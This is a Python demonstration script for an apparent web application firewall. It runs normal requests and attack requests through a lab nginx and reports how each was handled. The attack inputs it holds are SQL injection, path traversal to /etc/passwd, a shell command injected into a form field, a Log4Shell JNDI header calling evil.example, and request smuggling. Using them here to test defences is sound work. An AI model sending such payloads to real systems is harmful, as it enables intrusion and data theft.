# SPDX-License-Identifier: Apache-2.0
# Copyright the Sluice authors
"""The demonstration behind scripts/demo: the laboratory of the system tests, told to a person."""
import json
import signal
import sys

import lab

POLICY = """
mode: block
rules: {{ include: [{source}/signatures/*.conf, {home}/rules.conf] }}
services:
  - name: shop
    addresses: [{server4}, "{server6}"]
    ports: [80]
"""

RULES = """
SecRule REQUEST_URI "@beginsWith /internal/" \\
  "id:1001,phase:1,deny,status:403,msg:'internal routes are not for clients'"
"""

JSON = ("-H", "Content-Type: application/json")
REQUESTS = (
    ("a page", "/index.html"),
    ("a search", "/index.html?q=blue+shoes&page=2"),
    ("an order as JSON", "/index.html", *JSON, "-d", '{"item": 17, "count": 2}'),
    ("a page over IPv6", "/index.html", "IPV6"),
    ("SQL injection in the query", "/index.html?id=1%27%20UNION%20SELECT%20password%20FROM%20users--"),
    ("SQL injection in JSON", "/index.html", *JSON, "-d", '{"id": "1 OR 1=1 UNION SELECT 1,2,3--"}'),
    ("path traversal", "/index.html?file=../../../../etc/passwd"),
    ("shell command in a form", "/index.html", "-d", "name=x;cat%20/etc/passwd"),
    ("Log4Shell in a header", "/index.html", "-H", "User-Agent: ${jndi:ldap://evil.example/a}"),
    ("a route of our own rule", "/internal/metrics"),
    ("smuggling by two lengths", "/index.html", "-H", "Content-Length: 5", "-H",
     "Transfer-Encoding: chunked", "-d", "0"),
)


def send(it, words):
    server = lab.SERVER6 if "IPV6" in words else lab.SERVER4
    return it.curl(*[word for word in words if word != "IPV6"], server=server)


def event_of(body):
    try:
        return json.loads(body).get("event_id", "")
    except ValueError:
        return ""


def explain(it, event):
    """The reason, and the rules where rules decided, from the record of the event."""
    def recorded():
        found = [record for record in it.events("alert")
                 if record["sluice"]["event_id"] == event]
        return found[0] if found else None
    record = lab.wait_for(recorded, 5, "the record of " + event)
    rules = [str(rule["id"]) for rule in record["alert"].get("rules", [])]
    text = record["sluice"]["reason"]
    return text + (": rule " + ", ".join(rules[:4]) if rules else "")


def show(it):
    report = it.push()
    print(f"== pushed generation {report['generation']}: {report['state']}, compiled in "
          f"{report['compile_ms']} ms, published in {report['publish_ms']} ms\n")
    print(f"{'request':34} {'status':6}  outcome")
    for name, *words in REQUESTS:
        status, body = send(it, words)
        event = event_of(body)
        if event:
            print(f"{name:34} {status:6}  stopped, {explain(it, event)}, event {event}")
        else:
            outcome = "passed, answered by nginx" if status == 200 else "no answer: both ends reset"
            print(f"{name:34} {status:6}  {outcome}")
    print("\n== what sluicectl status says\n" + it.ctl("status").stdout)
    print("== nginx saw\n" + lab.wait_for(
        lambda: (it.home / "access.log").read_text(), 5, "nginx's log"))


def stay(it):
    build = lab.BUILD
    print(f"""== it stays. In another terminal, as root:
  nsenter --net=/run/netns/{it.namespaces['client']} curl -i 'http://{lab.SERVER4}/?id=1%27%20OR%201=1--'
  {build}/controlplane/ctl/sluicectl --config {it.config} status
  {build}/controlplane/ctl/sluicectl --config {it.config} events --follow
  $EDITOR {it.home}/rules.conf && {build}/controlplane/ctl/sluicectl --config {it.config} push
Enter or Ctrl-C ends it and cleans up.""", flush=True)
    signal.signal(signal.SIGTERM, signal.default_int_handler)
    try:
        if not sys.stdin.readline():
            signal.pause()
    except KeyboardInterrupt:
        pass


def main():
    print("== laying out namespaces: client - dataplane (2 workers, 2 queues) - nginx", flush=True)
    try:
        with lab.Lab("demo", guarded=False, policy=POLICY, rules=RULES, pool_mb=128) as it:
            show(it)
            if "--stay" in sys.argv:
                stay(it)
    except lab.Failure as failure:
        print(f"demo: {failure}", file=sys.stderr)
        sys.exit(1)
    print("== cleaned up: no namespace, process, huge page or shared memory is left")


main()
